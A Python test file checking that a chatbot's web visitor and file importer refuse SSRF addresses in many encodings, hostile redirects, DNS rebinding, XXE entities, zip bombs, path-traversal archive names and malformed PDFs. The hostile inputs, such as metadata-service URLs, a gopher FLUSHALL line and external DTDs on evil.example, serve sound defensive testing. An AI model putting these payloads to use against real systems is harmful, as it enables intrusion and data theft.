"""Import and launch checks made to fetch what they should not, and files that are bombs."""

from __future__ import annotations

import ipaddress
import os
import re
import resource
import subprocess
import sys
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatbot.importing.read import read_bytes
from chatbot.importing.rows import UnreadableFile
from chatbot.importing.visit import NotHad, Visitor, page_address
from lab.dns_server import DnsServer
from lab.web_server import WebServer, pages, redirect
from ops.launch.network.connect import is_private
from ops.launch.world import NetworkOptions
from tests.chatbot.importing.papers import assembled, docx, paragraph

NO_DNS = ("127.0.0.1", 9)

INSIDE = [
    "http://127.0.0.1/",
    "http://127.1/",
    "http://127.0.1/",
    "http://0/",
    "http://0.0.0.0/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0x7f.0.0.1/",
    "http://017700000001/",
    "http://0177.0.0.1/",
    "http://127.0.0.1.:80/",
    "http://[::]/",
    "http://[::1]/",
    "http://[0:0:0:0:0:0:0:1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/",
    "http://[::127.0.0.1]/",
    "http://[64:ff9b::7f00:1]/",
    "http://[64:ff9b::169.254.169.254]/",
    "http://[64:ff9b:1::a9fe:a9fe]/",
    "http://[2002:7f00:1::]/",
    "http://[fe80::1%25eth0]/",
    "http://[fec0::1]/",
    "http://[fd00:ec2::254]/",
    "http://[5f00::1]/",
    "http://169.254.169.254/",
    "http://169.254.169.254.:80/latest/meta-data/",
    "http://2852039166/",
    "http://100.100.100.200/",
    "http://192.0.0.192/",
    "http://10.0.0.1/",
    "http://172.31.255.255/",
    "http://192.168.0.1/",
    "http://100.64.0.1/",
    "http://198.18.0.1/",
    "http://224.0.0.1/",
    "http://255.255.255.255/",
    "http://localhost/",
    "http://LOCALHOST/",
    "http://localhost./",
    "http://a.localhost/",
    "http://user:word@127.0.0.1/",
    "http://example.com@127.0.0.1/",
    "http://127.0.0.1#@example.com/",
    "http://127.0.0.1\\@example.com/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127。0。0。1/",
    "http://ｌｏｃａｌｈｏｓｔ/",
    "http://127.0.0.1:6379/",
    "http://127.0.0.1:22/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stats",
    "ftp://127.0.0.1/",
    "ldap://127.0.0.1/",
    "jar:http://127.0.0.1!/",
    "data:text/html,<p>x",
    "javascript:alert(1)",
    "//127.0.0.1/",
    "http:///",
    "http://",
    "http:127.0.0.1",
    "",
    "http://\r\nHost: x/",
    "http://exa mple.com/",
    "http://[::1",
    "http://example.com:99999/",
    "http://example.com:0x50/",
    "http://" + "a" * 300 + ".example/",
    "http://..example.com/",
]


@pytest.mark.parametrize("url", INSIDE)
def test_no_spelling_of_an_address_leads_inside(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[object] = []
    monkeypatch.setattr("socket.create_connection", lambda *where, **_: asked.append(where))
    monkeypatch.setattr(
        "socket.socket.connect",
        lambda self, where: None if where == NO_DNS else asked.append(where),
    )
    with pytest.raises(NotHad):
        Visitor(options=NetworkOptions(resolver=NO_DNS), seconds=0.2).page(url)
    assert asked == []


@pytest.mark.parametrize(
    "to",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:7f00:1]/",
        "http://2130706433/",
        "//127.0.0.1/",
        "file:///etc/passwd",
        "gopher://127.0.0.1/",
        "http://a:b@127.0.0.1/",
        "http://[64:ff9b::7f00:1]/",
        "\\\\127.0.0.1\\x",
        "http:\\\\127.0.0.1",
        "ftp://example.com/",
    ],
)
def test_a_redirect_leads_to_no_other_place(to: str) -> None:
    site = pages({"/": redirect(to)})
    with WebServer({"example.com": site}) as server:
        options = NetworkOptions(resolver=NO_DNS, connect_to=server.rules)
        with pytest.raises(NotHad):
            Visitor(options=options, seconds=10).page("http://example.com/")
        assert {path for path in server.paths() if path not in ("/robots.txt", "/")} <= {
            "/127.0.0.1/x",
            "//127.0.0.1/x",
            "/%5C%5C127.0.0.1%5Cx",
            "/%5C%5C127.0.0.1",
        }


def test_a_name_that_changes_its_mind_is_asked_once_and_judged_by_what_it_said() -> None:
    """DNS rebinding: public when it is looked at, private when it is connected to."""
    with DnsServer("example.com A 192.0.2.10\nexample.com A 127.0.0.1") as dns:
        visitor = Visitor(options=NetworkOptions(resolver=dns.where), seconds=5)
        with pytest.raises(NotHad, match="private address"):
            visitor._ways("http://example.com/")
    with DnsServer("example.com A 93.184.216.34") as dns:
        (way,) = Visitor(options=NetworkOptions(resolver=dns.where), seconds=5)._ways(
            "http://example.com/"
        )
    # What is connected to is the address that was looked at; no name is resolved a second time.
    assert way.address == "93.184.216.34"


@given(st.ip_addresses(v=4))
def test_an_ipv4_address_in_any_dress_is_judged_as_itself(
    address: ipaddress.IPv4Address,
) -> None:
    number = int(address)
    for dressed in (
        ipaddress.IPv6Address((0xFFFF << 32) | number),
        ipaddress.IPv6Address((0x64FF9B << 96) | number),
        ipaddress.IPv6Address((0x2002 << 112) | (number << 80)),
    ):
        if not (dressed.sixtofour and not is_private(str(address))):
            assert is_private(str(dressed)) == is_private(str(address)), dressed
    assert is_private(str(ipaddress.IPv6Address(number)))


@given(st.text(max_size=80))
def test_whatever_is_given_is_an_address_or_a_refusal(text: str) -> None:
    for url in (text, f"http://{text}", f"http://example.com/{text}", f"https://{text}.example/?x"):
        try:
            found = page_address(url)
        except NotHad:
            continue
        assert re.fullmatch(r"https?://[^\s@#\\]+", found.partition("?")[0]) or "@" in found
        assert "\r" not in found and "\n" not in found and "#" not in found
        assert page_address(found) == found


CONTENT = '<?xml version="1.0"?>{doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'  # noqa: E501


def word_file(document: str, *, extra: int = 0, nested: bytes = b"") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", document)
        for number in range(extra):
            archive.writestr(f"word/{number}.xml", "")
        if nested:
            archive.writestr("word/nested.zip", nested)
    return out.getvalue()


def read(name: str, data: bytes) -> list[object]:
    return list(read_bytes(name, data).rows)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w [<!ENTITY x SYSTEM "http://169.254.169.254/">]>',
        '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE w [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
        "<!DOCTYPE w>",
    ],
)
def test_xml_that_declares_anything_is_refused(doctype: str) -> None:
    text = "&x;" if "ENTITY x" in doctype else "&b;" if "ENTITY b" in doctype else "hello"
    with pytest.raises(UnreadableFile, match="declares XML entities"):
        read("a.docx", word_file(CONTENT.format(doctype=doctype, text=text)))


def test_an_archive_of_very_many_parts_is_refused() -> None:
    with pytest.raises(UnreadableFile, match="parts"):
        read("a.docx", word_file(CONTENT.format(doctype="", text="hello"), extra=10_001))


def test_an_archive_inside_an_archive_stays_closed() -> None:
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(50_000_000))
    bomb = word_file(CONTENT.format(doctype="", text="One hour is $150."), nested=inner.getvalue())
    assert "One hour" in str(read("a.docx", bomb))


def test_names_that_lead_out_of_an_archive_write_nothing(tmp_path: Path) -> None:
    out = BytesIO(word_file(CONTENT.format(doctype="", text="One hour is $150.")))
    target = tmp_path / "written"
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(f"../../../../../../{target}", "x")
        archive.writestr(str(target), "x")
    assert "One hour" in str(read("a.docx", out.getvalue()))
    assert not target.exists()


def test_a_word_file_that_unpacks_to_a_thousand_times_its_size_costs_no_memory() -> None:
    """In a process of its own, which may have 400 MB more than it starts with."""
    document = CONTENT.format(doctype="", text=" " * 70_000_000)
    bomb = word_file(document)
    assert len(bomb) < 100_000
    script = (
        "import resource, sys, django\n"
        "django.setup()\n"
        "from chatbot.importing.read import read_bytes\n"
        "from chatbot.importing.rows import UnreadableFile\n"
        "data = sys.stdin.buffer.read()\n"
        "before = int(open('/proc/self/statm').read().split()[0]) * resource.getpagesize()\n"
        "resource.setrlimit(resource.RLIMIT_AS, (before + 400_000_000,) * 2)\n"
        "try:\n    read_bytes('a.docx', data)\n"
        "except UnreadableFile as error:\n    print('refused:', error)\n"
    )
    assert resource.getpagesize()
    done = subprocess.run(
        [sys.executable, "-c", script],
        input=bomb,
        capture_output=True,
        timeout=120,
        check=False,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"},
    )
    assert b"refused:" in done.stdout, done.stderr[-2000:]


PDF_HEAD = [b"<< /Type /Catalog /Pages 2 0 R >>"]
PDFS = {
    "pages in a circle": [*PDF_HEAD, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"],
    "a count of very many pages": [*PDF_HEAD, b"<< /Type /Pages /Kids [] /Count 2147483647 >>"],
    "a length that points at itself": [
        *PDF_HEAD,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Length 4 0 R >>\nstream\nx\nendstream",
    ],
    "filters upon filters": [
        *PDF_HEAD,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Length 1 /Filter [" + b"/FlateDecode " * 2_000 + b"] >>\nstream\nx\nendstream",
    ],
    "arrays a hundred thousand deep": [*PDF_HEAD, b"[" * 100_000 + b"]" * 100_000],
    "a form that draws itself": [
        *PDF_HEAD,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R "
        b"/Resources << /XObject << /X 5 0 R >> >> >>",
        b"<< /Length 5 >>\nstream\n/X Do\nendstream",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 5 "
        b"/Resources << /XObject << /X 5 0 R >> >> >>\nstream\n/X Do\nendstream",
    ],
    "a script and an attachment": [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> "
        b"/Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    ],
}


@pytest.mark.parametrize("objects", PDFS.values(), ids=PDFS)
def test_a_hostile_pdf_is_refused_in_words(objects: list[bytes]) -> None:
    with pytest.raises(UnreadableFile):
        read("a.pdf", assembled(objects, {}))


@given(st.binary(max_size=400), st.sampled_from([".docx", ".csv", ".json", ".yaml", ".md", ".txt"]))
def test_any_bytes_are_read_or_refused_in_words(data: bytes, ending: str) -> None:
    for content in (data, docx(paragraph("Hello"))[:200] + data):
        try:
            read(f"a{ending}", content)
        except UnreadableFile as error:
            assert str(error)
